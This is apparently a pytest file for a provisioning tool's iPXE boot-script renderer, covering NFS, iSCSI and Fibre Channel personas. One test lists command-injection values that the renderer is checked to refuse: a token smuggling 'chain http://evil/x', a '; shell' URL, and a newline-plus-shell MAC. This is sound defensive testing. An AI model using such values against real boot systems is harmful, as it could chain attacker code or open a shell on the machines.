"""The per-MAC iPXE scripts, checked for syntax (ipxe_syntax) and content."""

from __future__ import annotations

import pytest

from tests.drivers.ipxe_syntax import check
from voe.domain.models import Persona
from voe.drivers.boot import ipxe

URL = "https://10.0.0.2:8472"
BOOT = "http://10.0.0.2:8480"
PIN = "9f" * 32
LINKS = ipxe.ControllerLinks(URL, BOOT, PIN)
TOKEN = "voe_bootstrap_AbC-123_x"
MAC = "02:56:4f:00:00:01"
ARGS = (f"set voe_args voe.controller={URL} voe.persona=web-1 voe.generation=7 voe.token={TOKEN} "
        f"voe.ca_sha256={PIN}")


def persona(**kw) -> Persona:
    base = {"name": "web-1", "image": {"nfs_root": "10.0.3.5:/export/personas/web-1"}}
    return Persona.model_validate({**base, **kw})


ISCSI = persona(boot="iscsi", image={"target_iqn": "iqn.2026-11.io.voe:dl380.web-1", "target_portal": "10.0.3.5",
                                     "lun": 1}, san={"initiator_iqn": "iqn.2026-11.io.voe:web-1"})
FC = persona(boot="fc", image={"target_wwpn": "50:06:01:60:3b:a0:11:22", "lun": 3},
             san={"wwpn": "20:00:00:25:b5:00:00:01"})


@pytest.mark.parametrize("p", [persona(), ISCSI, FC], ids=["linux-nfs", "iscsi", "fc"])
def test_every_script_parses_and_carries_the_agent_args_line(p):
    script = ipxe.render(p, 7, ipxe.ControllerLinks(URL + "/", BOOT + "/", PIN), TOKEN, MAC)
    assert check(script) == []
    assert script.startswith("#!ipxe\n")
    assert ARGS in script.splitlines()


def test_linux_nfs_boots_kernel_with_nfs_root_and_agent_args():
    lines = ipxe.render(persona(), 7, LINKS, TOKEN, MAC).splitlines()
    assert lines[3] == (f"kernel {BOOT}/boot/files/{MAC}/vmlinuz root=/dev/nfs "
                        f"nfsroot=10.0.3.5:/export/personas/web-1,vers=4 ip={MAC.replace(':', '-')}:dhcp rw "
                        "nfs.nfs4_unique_id=voe-web-1 "
                        "console=tty0 console=ttyS0,115200n8 ${voe_args} initrd=initrd.img")
    assert lines[4] == f"initrd --name initrd.img {BOOT}/boot/files/{MAC}/initrd.img"
    assert lines[5] == "boot"
    assert ipxe.nfs_root_path("\n".join(lines)) == "/export/personas/web-1"


def test_iscsi_sanboots_the_lun_as_the_personas_initiator():
    lines = ipxe.render(ISCSI, 7, LINKS, TOKEN, MAC).splitlines()
    assert lines[3:] == ["set initiator-iqn iqn.2026-11.io.voe:web-1",
                         "sanboot iscsi:10.0.3.5::3260:1:iqn.2026-11.io.voe:dl380.web-1"]


def test_iscsi_portal_port_is_kept():
    p = ISCSI.model_copy(update={"image": ISCSI.image.model_copy(update={"target_portal": "10.0.3.5:3261"})})
    assert "sanboot iscsi:10.0.3.5::3261:1:" in ipxe.render(p, 1, LINKS, TOKEN, MAC)


def test_fc_records_the_wwpn_and_hands_over_to_the_hba():
    script = ipxe.render(FC, 7, LINKS, TOKEN, MAC)
    assert "set voe_wwpn 20:00:00:25:b5:00:00:01" in script
    assert script.rstrip().endswith("exit")
    assert "sanboot" not in script


@pytest.mark.parametrize("field,value", [
    ("token", "abc\nchain http://evil/x"),
    ("token", "abc ${net0/mac}"),
    ("controller_url", "http://x/ ; shell"),
    ("controller_url", 'http://x/"'),
    ("mac", "02:00:00:00:00:01\nshell"),
])
def test_values_that_could_inject_commands_are_refused(field, value):
    args = {"token": TOKEN, "controller_url": URL, "mac": MAC, field: value}
    with pytest.raises(ipxe.UnsafeBootValue, match="cannot carry safely"):
        ipxe.render(persona(), 1, ipxe.ControllerLinks(args["controller_url"], BOOT), args["token"], args["mac"])


def test_an_image_field_with_a_space_is_refused_and_named():
    p = persona(image={"nfs_root": "10.0.3.5:/export/a b"})
    with pytest.raises(ipxe.UnsafeBootValue, match="image.nfs_root"):
        ipxe.render(p, 1, LINKS, TOKEN, MAC)


def test_the_checker_catches_what_it_is_for():
    assert check("#!ipxe\nchain http://x\n") == ["line 2: unknown command 'chain'"]
    assert check("#!ipxe\nkernel http://x ${voe_args}\n") == ["line 2: setting 'voe_args' is used before it is set"]
    assert check('#!ipxe\necho "open\n') == ["line 2: unbalanced quoting (No closing quotation)"]
    assert check("#!ipxe\necho ${oops\n") == ["line 2: stray $, { or } outside a ${setting} reference"]
    assert check("#!ipxe\nsanboot iscsi:h:3260:1:iqn.x\n")[0].startswith("line 2: not an iscsi:")


def test_the_lab_reads_the_agent_args_from_every_kind():
    from voe.lab.machine import args_dict, parse_boot_args

    for p in (persona(), ISCSI, FC):
        args = args_dict(parse_boot_args(ipxe.render(p, 7, LINKS, TOKEN, MAC)))
        assert args == {"voe.controller": URL, "voe.persona": "web-1", "voe.generation": "7", "voe.token": TOKEN,
                        "voe.ca_sha256": PIN}
